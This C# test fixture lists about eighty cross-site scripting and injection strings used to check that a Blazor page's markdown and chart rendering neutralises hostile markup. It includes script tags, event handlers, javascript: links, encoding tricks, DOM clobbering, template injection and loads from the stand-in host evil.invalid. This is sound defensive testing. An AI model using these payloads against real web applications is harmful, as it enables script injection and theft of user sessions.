namespace AxisDemo.Tests;

/// <summary>
/// Texts that would run, load or rebuild something if any part of the page took them for markup. What runs sets <c>window.ran</c>,
/// what loads comes from evil.invalid.
/// </summary>
/// <param name="Name">What it tries.</param>
/// <param name="Text">The text.</param>
/// <param name="InMarkdown">What is seen of it where markdown is drawn, white space aside; null: all of it.</param>
internal sealed record Hostile(string Name, string Text, string? InMarkdown = null)
{
    /// <summary>The name of the text that is markup to the chart's library.</summary>
    public const string InCharts = "chart markup";

    private const string Script = "<script>window.ran=1</script>";
    private static readonly string Quotes = string.Concat(Enumerable.Repeat("> ", 300)) + "deep";

    /// <summary>All of them. Those that open a fence stand last: they would make code, and so harmless, of what follows.</summary>
    public static IReadOnlyList<Hostile> All { get; } =
    [
        new("script", Script),
        new("script from elsewhere", "<script src=http://evil.invalid/x.js></script>"),
        new("picture with a handler", "<img src=x onerror=window.ran=1>"),
        new("handler without a space", "<img/src=x/onerror=window.ran=1>"),
        new("svg handler", "<svg onload=window.ran=1>"),
        new("svg script", "<svg><script>window.ran=1</script></svg>"),
        new("svg animation", "<svg><a xlink:href=\"javascript:window.ran=1\"><animate attributeName=href values=javascript:window.ran=1 /></a></svg>"),
        new("foreign object", "<svg><foreignObject><iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe></foreignObject></svg>"),
        new("math link", "<math><mi xlink:href=\"javascript:window.ran=1\">x</mi></math>"),
        new("mutation", "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.ran=1&gt;\">", "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=1 onerror=window.ran=1>\">"),
        new("frame", "<iframe src=\"javascript:parent.ran=1\"></iframe>"),
        new("object", "<object data=\"data:text/html,<script>parent.ran=1</script>\"></object>"),
        new("embed", "<embed src=\"javascript:window.ran=1\">"),
        new("body", "<body onload=window.ran=1 onpageshow=window.ran=1>"),
        new("focus", "<input autofocus onfocus=window.ran=1>"),
        new("toggle", "<details open ontoggle=window.ran=1><summary>x</summary></details>"),
        new("video", "<video><source onerror=window.ran=1></video>"),
        new("marquee", "<marquee onstart=window.ran=1>x</marquee>"),
        new("animation event", "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=window.ran=1>x</b>"),
        new("popover event", "<button popovertarget=about onbeforetoggle=window.ran=1>x</button>"),
        new("style sheet", "<link rel=stylesheet href=http://evil.invalid/x.css>"),
        new("style import", "<style>@import 'http://evil.invalid/y.css';</style>"),
        new("style url", "<div style=\"background:url(http://evil.invalid/c.png)\">x</div>"),
        new("css expression", "<div style=\"width:expression(window.ran=1);behavior:url(#x)\">x</div>"),
        new("refresh", "<meta http-equiv=refresh content=\"0;url=http://evil.invalid/\">"),
        new("base", "<base href=http://evil.invalid/>"),
        new("form", "<form action=http://evil.invalid/><button formaction=javascript:window.ran=1>x</button></form>"),
        new("link", "<a href=javascript:window.ran=1>x</a>"),
        new("shadow root", "<div><template shadowrootmode=open><script>window.ran=1</script></template></div>"),
        new("clobbering", "<form id=Blazor></form><img name=getElementById><a id=Plotly href=x>y</a>"),
        new("out of an attribute", "\"><img src=x onerror=window.ran=1>"),
        new("out of a quoted attribute", "' onmouseover='window.ran=1' x='"),
        new("out of a text box", "</textarea><script>window.ran=1</script>"),
        new("out of the title", "</title></head><script>window.ran=1</script>"),
        new("out of a comment", "--><script>window.ran=1</script>"),
        new("out of JSON", "{\"a\":\"</script><script>window.ran=1</script>\"}"),
        new("out of a string", "';window.ran=1;//\\';window.ran=1;//", "';window.ran=1;//';window.ran=1;//"),
        new("character data", "<![CDATA[<script>window.ran=1</script>]]>"),
        new("processing instruction", "<?xml-stylesheet href=\"javascript:window.ran=1\"?>"),
        new("Blazor's marker", "<!--bl:1--><!--/bl:1--><!--Blazor:{\"sequence\":0,\"type\":\"server\",\"prerenderId\":\"x\",\"descriptor\":\"x\"}-->"),
        new("template braces", "{{constructor.constructor('window.ran=1')()}}"),
        new("template literal", "${window.ran=1} `${window.ran=1}`", "${window.ran=1} ${window.ran=1}"),
        new("server templates", "<%= window.ran=1 %> #{window.ran=1} @(window.ran=1) {% raw %}"),
        new("prototype", "{\"__proto__\":{\"ran\":1},\"constructor\":{\"prototype\":{\"ran\":1}}}", "{\"proto\":{\"ran\":1},\"constructor\":{\"prototype\":{\"ran\":1}}}"),
        new("entities", "&lt;img src=x onerror=window.ran=1&gt;", "<img src=x onerror=window.ran=1>"),
        new("numeric entities", "&#60;img src=x onerror=window.ran=1&#x3e;", "<img src=x onerror=window.ran=1>"),
        new("percent", "%3Cscript%3Ewindow.ran=1%3C/script%3E"),
        new("seven bits", "+ADw-script+AD4-window.ran=1+ADw-/script+AD4-"),
        new("wide brackets", "＜script＞window.ran=1＜/script＞"),
        new("zero width", "<scr\u200bipt>window.ran=1</scr\u200bipt>"),
        new("other direction", "\u202e<gnp.exe\u202c \u2066<script>window.ran=1</script>\u2069"),
        new("control characters", "<scr\u0001ipt>window.ran=1</scr\u001bipt>\u0085\u2028x"),
        new("half a character", "<b>\ud800</b><script>window.ran=1</script>", "</b><script>window.ran=1</script>"),
        new("script address", "javascript:window.ran=1"),
        new("markdown link", "[click](javascript:window.ran=1)", "click"),
        new("markdown link, mixed case", "[click](JaVaScRiPt:window.ran=1)", "click"),
        new("markdown link, entities", "[click](java&#x73;cript&colon;window.ran=1)", "click"),
        new("markdown link, tab", "[click](<java\tscript:window.ran=1>)", "click"),
        new("markdown link, data", "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)", "click"),
        new("markdown link, other schemes", "[a](vbscript:x) [b](file:///etc/passwd) [c](blob:x) [d](//evil.invalid/)", "a b c d"),
        new("markdown link, quote", "[click](http://evil.invalid/\"onmouseover=\"window.ran=1)", "click"),
        new("markdown link, title", "[click](http://evil.invalid/ \"x\\\" onmouseover=\\\"window.ran=1\")", "click"),
        new("markdown reference", "[click][r]\n\n[r]: javascript:window.ran=1", "click"),
        new("markdown picture", "![pixel](http://evil.invalid/p.png)", "pixel"),
        new("markdown picture, handler", "![x\" onerror=\"window.ran=1](x)", "x\" onerror=\"window.ran=1"),
        new("picture in a link", "[![p](http://evil.invalid/q.png)](javascript:window.ran=1)", "p"),
        new("autolink", "<javascript:window.ran=1>", "javascript:window.ran=1"),
        new("autolink, data", "<data:text/html,x>", "data:text/html,x"),
        new("autolink, quote", "<http://evil.invalid/'onclick='window.ran=1>", "http://evil.invalid/'onclick='window.ran=1"),
        new("table", "| a | b |\n|---|---|\n| <script>window.ran=1</script> | [x](javascript:window.ran=1) |", "<script>window.ran=1</script>"),
        new(InCharts, "<b>bold</b><br><a href=\"http://evil.invalid/\">x</a><span style=\"color:red\">y</span>"),
        new("quotes without end", Quotes, "deep"),
        new("html block", "<div onclick='window.ran=1'>\n\n**x**\n\n</div>", "<div onclick='window.ran=1'>"),
        new("code", "`<img src=x onerror=window.ran=1>`", "<img src=x onerror=window.ran=1>"),
        new("indented code", "    <script>window.ran=1</script>", Script),
        new("fence with a name", "```\"><script>window.ran=1</script>\n<script>window.ran=2</script>\n```\n", "<script>window.ran=2</script>"),
        new("fence in a fence", "````\n```\n<script>window.ran=1</script>\n```\n", Script),
    ];

    /// <summary>White space made single spaces: what of a text is the same in a document.</summary>
    public static string Plain(string text) => string.Join(' ', text.Split((char[]?)null, StringSplitOptions.RemoveEmptyEntries));
}
